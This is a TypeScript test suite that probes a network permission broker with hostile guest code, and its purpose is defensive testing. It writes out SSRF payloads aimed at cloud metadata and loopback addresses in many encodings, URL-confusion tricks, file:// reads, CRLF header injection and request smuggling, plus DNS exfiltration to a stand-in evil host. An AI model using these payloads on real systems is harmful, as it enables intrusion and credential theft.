import { hostname } from "node:os";
import { expect } from "vitest";
import { installed, mailbox, PROBE, withSites } from "../authority.testing.ts";
import { both, by, type HostileCase } from "../case.ts";

const REFUSED = by("egress", "PLINTH_PERMISSION");
const fetching = (urls: readonly string[]): string =>
  `const urls = ${JSON.stringify(urls)}; return probe(Object.fromEntries(urls.map((url) => [url, () => ctx.fetch(url).then((answer) => answer.text())])));`;

/** Every road out but the granted one. What passes the broker is looked at where it arrives. */
export const cases: HostileCase[] = [
  {
    id: "net-undeclared",
    tries: "reaches hosts that its manifest does not name, by every spelling of their names",
    phase: "call",
    stopped: both(REFUSED),
    manifest: { permissions: { net: ["api.example.com", "*.example.org"] } },
    top: PROBE,
    parts: ({ loopbackUrl }) => ({
      code: fetching([
        ...[`${loopbackUrl}/net-undeclared`, "http://example.com/", "http://api.example.com.evil.test/", "http://evil-api.example.com/"],
        ...["http://example.org/", "http://xexample.org/", "http://api.example.com:8080/", "http://api.example.com@evil.test/"],
        ...[
          "http://evil.test/#api.example.com",
          "http://evil.test\\@api.example.com/",
          "http://api.example.com%00.evil.test/",
          "http://аpi.example.com/",
        ],
      ]),
    }),
    blameless: true,
  },
  {
    id: "net-none",
    tries: "uses the network without any permission for it",
    phase: "call",
    stopped: both(by("egress", "PLINTH_PERMISSION")),
    top: PROBE,
    parts: ({ loopbackUrl }) => ({ code: fetching([`${loopbackUrl}/net-none`, "http://1.1.1.1/", "https://example.com/"]) }),
    blameless: true,
  },
  {
    id: "net-metadata",
    tries: "asks the metadata services of clouds, private and link-local addresses, with a grant for every public host",
    phase: "call",
    stopped: both(REFUSED),
    manifest: { permissions: { net: ["*"] } },
    top: PROBE,
    code: fetching([
      ...["http://169.254.169.254/latest/meta-data/", "http://[fd00:ec2::254]/", "http://100.100.100.200/", "http://168.63.129.16/"],
      ...["http://192.0.0.192/", "http://2852039166/", "http://0xa9fea9fe/", "http://[::ffff:169.254.169.254]/", "http://[::ffff:a9fe:a9fe]/"],
      ...["http://[2002:a9fe:a9fe::]/", "http://[64:ff9b::a9fe:a9fe]/", "http://10.0.0.1/", "http://192.168.1.1/", "http://172.17.0.1:2375/"],
      ...["http://[fe80::1]/", "http://255.255.255.255/", "http://224.0.0.1/", "http://100.64.0.1/"],
    ]),
    blameless: true,
  },
  {
    id: "net-loopback-spellings",
    tries: "reaches this machine by every spelling of its address, with a grant for every public host",
    phase: "call",
    stopped: both(REFUSED),
    manifest: { permissions: { net: ["*"] } },
    top: PROBE,
    parts: ({ loopbackPort }) => ({
      code: fetching(
        [
          ...[
            "127.0.0.1",
            "127.1",
            "127.0.1",
            "2130706433",
            "0x7f000001",
            "0x7f.0.0.1",
            "0177.0.0.1",
            "017700000001",
            "0",
            "0.0.0.0",
            "127.255.255.254",
          ],
          ...["localhost", "LOCALHOST", "localhost.", "loc%61lhost", "①②⑦.⓪.⓪.①", "１２７.0.0.1", "127。0。0。1", "127.0.0.1."],
          ...["[::1]", "[::]", "[0:0:0:0:0:0:0:1]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[::127.0.0.1]", "[64:ff9b::7f00:1]", "[2002:7f00:1::]"],
        ].map((host) => `http://${host}:${loopbackPort}/net-loopback-spellings`),
      ),
    }),
    blameless: true,
  },
  {
    id: "net-name-of-the-machine",
    tries: "reaches private addresses through names that lead to them, also through a name that was granted",
    phase: "call",
    stopped: both(REFUSED),
    top: PROBE,
    parts: ({ loopbackPort }) => ({
      manifest: { permissions: { net: ["*", `localhost:${loopbackPort}`, `${hostname().toLowerCase()}:${loopbackPort}`] } },
      code: fetching([`http://localhost:${loopbackPort}/net-name-of-the-machine`, `http://${hostname()}:${loopbackPort}/net-name-of-the-machine`]),
    }),
    blameless: true,
  },
  {
    id: "net-schemes",
    tries: "asks for file:, data:, ftp:, unix: and other addresses that are not of the web, and for methods that make tunnels",
    phase: "call",
    stopped: both(REFUSED),
    manifest: { permissions: { net: ["*", "loopback"] } },
    top: PROBE,
    parts: ({ secretFile, socketPath, loopbackUrl }) => ({
      code: `
        const urls = ${JSON.stringify([`file://${secretFile}`, "data:text/plain,x", "ftp://127.0.0.1/", `unix:${socketPath}`, `http+unix://${encodeURIComponent(socketPath)}/`, "ws://127.0.0.1/", "blob:null/x", "javascript:1", "gopher://127.0.0.1:1/_x", "//127.0.0.1/", "/etc/passwd"])};
        const methods = ["CONNECT", "connect", "TRACE", "TRACK"];
        return probe({
          ...Object.fromEntries(urls.map((url) => [url, () => ctx.fetch(url).then((answer) => answer.text())])),
          ...Object.fromEntries(methods.map((method) => [method, () => ctx.fetch(${JSON.stringify(`${loopbackUrl}/net-schemes`)}, { method }).then((answer) => answer.text())])),
        });`,
    }),
    blameless: true,
  },
  {
    id: "net-redirects",
    tries: "has a granted host send it on: to another port of this machine, to a metadata address, to files",
    phase: "call",
    stopped: both(REFUSED),
    attack: ({ facts, ...attack }) =>
      withSites(async (granted) => {
        const targets = [
          `${facts.loopbackUrl}/net-redirects`,
          "http://169.254.169.254/",
          `file://${facts.secretFile}`,
          `//localhost:${facts.loopbackPort}/net-redirects`,
        ];
        const urls = [301, 302, 303, 307, 308].flatMap((status) => targets.map((target) => `${granted.url}/${status}?${encodeURIComponent(target)}`));
        await installed(attack, { manifest: { permissions: { net: [granted.host] } }, top: PROBE, code: fetching(urls) });
        const found = await attack.call();
        expect(granted.seen.length).toBe(urls.length);
        return found;
      }),
    blameless: true,
  },
  {
    id: "net-other-port",
    tries: "reaches another port of a host of which one port was granted",
    phase: "call",
    stopped: both(REFUSED),
    attack: (attack) =>
      withSites(async (granted, other) => {
        await installed(attack, {
          manifest: { permissions: { net: [granted.host] } },
          top: PROBE,
          code: fetching([other.url, "http://127.0.0.1/", "https://127.0.0.1/"]),
        });
        const found = await attack.call();
        expect([granted.seen, other.seen]).toEqual([[], []]);
        return found;
      }),
    blameless: true,
  },
  {
    id: "net-userinfo",
    tries: "writes the granted host where an address has a user's name, a path or a fragment",
    phase: "call",
    stopped: both(by("broker", "PLINTH_PERMISSION")),
    attack: (attack) =>
      withSites(async (granted, other) => {
        const urls = [
          ...[`http://${granted.host}@${other.host}/`, `http://user:word@${granted.host}/`, `http://${other.host}#@${granted.host}/`],
          ...[`http://${other.host}/@${granted.host}/`, `http://${other.host}\\@${granted.host}/`, `http://${other.host}%2f@${granted.host}/`],
          ...[`http://${granted.host}%40${other.host}/`, `http:${other.host}/`, `http:///${other.host}/`, `\thttp://${other.host}/`],
        ];
        await installed(attack, { manifest: { permissions: { net: [granted.host] } }, top: PROBE, code: fetching(urls) });
        const found = await attack.call();
        expect([granted.seen, other.seen]).toEqual([[], []]);
        return { ...found, by: "broker" };
      }),
    blameless: true,
  },
  {
    id: "net-header-injection",
    tries: "writes line breaks into header values, header names, methods and addresses, to smuggle a second request",
    phase: "call",
    stopped: both(by("schema check", "PLINTH_PAYLOAD")),
    attack: (attack) =>
      withSites(async (granted) => {
        const url = JSON.stringify(granted.url);
        await installed(attack, {
          manifest: { permissions: { net: [granted.host] } },
          top: PROBE,
          code: `
            const send = (options, more = "") => () => ctx.fetch(${url} + more, options).then(({ status }) => status);
            return probe({
              value: send({ headers: { "x-a": "b\\r\\nx-evil: 1" } }), line: send({ headers: { "x-a": "b\\nx-evil: 1" } }), nul: send({ headers: { "x-a": "b\\0c" } }),
              name: send({ headers: { "x-a: 1\\r\\nx-evil": "1" } }), space: send({ headers: { "x a": "1" } }),
              method: send({ method: "GET / HTTP/1.1\\r\\nx-evil: 1\\r\\n\\r\\nGET" }), blank: send({ method: "G ET" }),
            });`,
        });
        const found = await attack.call();
        expect(granted.seen).toEqual([]);
        return found;
      }),
    blameless: true,
  },
  {
    id: "net-host-header",
    tries: "forges the Host header, the framing and the connection of its requests",
    phase: "call",
    stopped: both(by("inert", "none")),
    attack: (attack) =>
      withSites(async (granted) => {
        await installed(attack, {
          manifest: { permissions: { net: [granted.host] } },
          code: `
            const headers = { Host: "internal.test", HOST: "internal.test", "content-length": "0", "transfer-encoding": "chunked", connection: "upgrade", upgrade: "websocket", "proxy-authorization": "x", "__proto__": "x" };
            const answer = await ctx.fetch(${JSON.stringify(granted.url)} + "/a\\r\\nHost: internal.test", { method: "POST", headers, body: "0\\r\\n\\r\\nGET /smuggled HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n" });
            return say("status " + answer.status);`,
        });
        const found = await attack.call();
        await attack.sleep(50);
        expect(granted.seen.length).toBe(1);
        const [{ headers = {} } = {}] = granted.seen;
        expect(headers.host).toBe(granted.host);
        for (const name of ["transfer-encoding", "upgrade", "proxy-authorization"]) expect(headers).not.toHaveProperty(name);
        return found;
      }),
    blameless: true,
  },
  {
    id: "net-gateway",
    tries: "calls the gateway's own API, with a grant for this machine but without its token",
    phase: "call",
    stopped: both(by("inert", "none")),
    manifest: { permissions: { net: ["loopback"] } },
    parts: ({ gatewayUrl }) => ({
      code: `
        const url = ${JSON.stringify(gatewayUrl)};
        const send = (path, options) => ctx.fetch(url + path, options).then(async (answer) => path + " " + answer.status, (thrown) => path + " " + thrown.code);
        const argv = JSON.stringify({ argv: ["plugins", "list"], terminal: {} });
        const headers = { "content-type": "application/json", origin: url, authorization: "Bearer ", "x-forwarded-for": "127.0.0.1" };
        return say([
          await send("/api/cli", { method: "POST", body: argv }), await send("/api/cli", { method: "POST", headers, body: argv }),
          await send("/v1/models"), await send("/v1/chat/completions", { method: "POST", headers, body: "{}" }),
          await send("/api/cli?token=", { method: "POST", body: argv }), await send("//api/cli", { method: "POST", body: argv }), await send("/%61pi/cli", { method: "POST", body: argv }),
        ].join());`,
    }),
    blameless: true,
    check: (_attack, { message }) => expect(message).not.toMatch(/ 2\d\d/),
  },
  {
    id: "net-globals",
    tries: "connects by the platform's own means: fetch, WebSocket, EventSource, XMLHttpRequest",
    phase: "call",
    stopped: {
      isolate: [by("no such thing inside", "ReferenceError"), REFUSED],
      process: [REFUSED, by("permission model", "ERR_ACCESS_DENIED")],
    },
    top: PROBE,
    parts: ({ loopbackUrl }) => ({
      code: `
        const url = ${JSON.stringify(`${loopbackUrl}/net-globals`)};
        const opened = (socket) => new Promise((resolve, reject) => { socket.onopen = () => resolve("open"); socket.onerror = () => reject(new Error("not open")); socket.addEventListener?.("error", () => reject(new Error("not open"))); });
        return probe({
          fetch: () => fetch(url).then((answer) => answer.text()),
          socket: () => opened(new WebSocket(url.replace("http", "ws"))),
          events: () => opened(new EventSource(url)),
          request: () => { const request = new XMLHttpRequest(); request.open("GET", url, false); request.send(); return request.responseText; },
        });`,
    }),
    blameless: true,
  },
  {
    id: "net-sockets",
    tries: "opens sockets of its own: TCP, HTTP, TLS, local and abstract ones, a server",
    phase: "call",
    // The guest's program refuses first, then Node's permission model, then the system: whichever is asked.
    stopped: { process: [REFUSED, by("permission model", "ERR_ACCESS_DENIED"), by("system wall", "ECONNREFUSED"), by("system wall", "ENETUNREACH")] },
    parts: ({ loopbackPort, socketPath, loopbackUrl }) => ({
      top: `import net from "node:net"; import http from "node:http"; import tls from "node:tls"; ${PROBE}`,
      code: `
        const opened = (socket) => new Promise((resolve, reject) => { socket.once("connect", () => resolve("connected")).once("response", () => resolve("answered")).once("listening", () => resolve("listening")).once("error", reject); });
        return probe({
          tcp: () => opened(net.connect(${loopbackPort}, "127.0.0.1")), http: () => opened(http.get(${JSON.stringify(`${loopbackUrl}/net-sockets`)})),
          tls: () => opened(tls.connect(${loopbackPort}, "127.0.0.1")), local: () => opened(net.connect(${JSON.stringify(socketPath)})),
          abstract: () => opened(net.connect("\\0" + ${JSON.stringify(socketPath)})), public: () => opened(net.connect(53, "1.1.1.1")),
        });`,
    }),
    blameless: true,
  },
  {
    id: "net-datagrams",
    tries: "sends datagrams and looks up names, to tell what it knows to whoever listens",
    phase: "call",
    stopped: { process: [REFUSED, by("permission model", "ERR_ACCESS_DENIED"), by("system wall", "ECONNREFUSED")] },
    async attack(attack) {
      const box = await mailbox();
      try {
        await installed(attack, {
          top: `import dgram from "node:dgram"; import dns from "node:dns"; ${PROBE}`,
          code: `
            const send = () => new Promise((resolve, reject) => { const socket = dgram.createSocket("udp4").once("error", reject); socket.send("out", ${box.port}, "127.0.0.1", (error) => error ? reject(error) : resolve("sent")); });
            const resolver = new dns.promises.Resolver({ timeout: 200, tries: 1 });
            return probe({
              datagram: send,
              server: async () => { resolver.setServers(["127.0.0.1:${box.port}"]); return resolver.resolve4("secret.evil.test"); },
              lookup: () => dns.promises.lookup("secret.evil.test"), resolve: () => dns.promises.resolve("secret.evil.test"),
            });`,
        });
        const found = await attack.call();
        expect(box.count()).toBe(0);
        return found;
      } finally {
        box.close();
      }
    },
    blameless: true,
  },
];
